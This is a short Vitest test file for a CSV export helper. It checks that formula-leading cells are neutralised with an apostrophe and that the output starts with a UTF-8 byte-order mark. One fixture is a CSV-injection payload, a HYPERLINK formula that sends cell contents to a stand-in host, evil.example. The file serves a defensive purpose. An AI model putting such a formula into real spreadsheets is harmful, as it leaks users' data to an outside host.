import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { spreadsheetCsv } from "@/lib/csv-export";

describe("spreadsheetCsv", () => {
  it("keeps a typed formula inert even with a line break after it", () => {
    const csv = spreadsheetCsv(["topic"], [['=HYPERLINK("https://evil.example/?"&A1,"Fix")\n'], ["+1"], ["@SUM(A1)"], ["Weekly sync"]]);
    const cells = Papa.parse<string[]>(csv.slice(1)).data.slice(1, 5).map((row) => row[0]);
    expect(cells).toEqual(['\'=HYPERLINK("https://evil.example/?"&A1,"Fix")\n', "'+1", "'@SUM(A1)", "Weekly sync"]);
  });

  it("starts with a UTF-8 byte-order mark so spreadsheets read Unicode names right", () => {
    const csv = spreadsheetCsv(["name"], [["Zoë 会議"]]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(Papa.parse(csv, { header: true }).data).toEqual([{ name: "Zoë 会議" }]);
  });
});
